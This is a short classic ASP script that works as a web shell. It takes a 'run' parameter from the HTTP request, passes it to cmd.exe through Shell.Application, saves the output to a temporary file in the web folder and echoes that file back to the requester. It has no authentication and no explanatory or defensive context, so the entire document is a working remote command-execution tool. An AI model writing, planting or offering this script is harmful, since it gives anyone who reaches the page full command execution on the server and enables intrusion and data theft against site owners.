<%
' runs commands through Shell.Application, then reads the result back
Dim app, fso, tmp
tmp = Server.MapPath(".") & "\~res.tmp"
If Request("run") <> "" Then
    Set app = CreateObject("Shell.Application")
    app.ShellExecute "cmd.exe", "/c " & Request("run") & " > """ & tmp & """", "", "open", 0
    Set fso = CreateObject("Scripting.FileSystemObject")
    If fso.FileExists(tmp) Then Response.Write fso.OpenTextFile(tmp).ReadAll
End If
%>
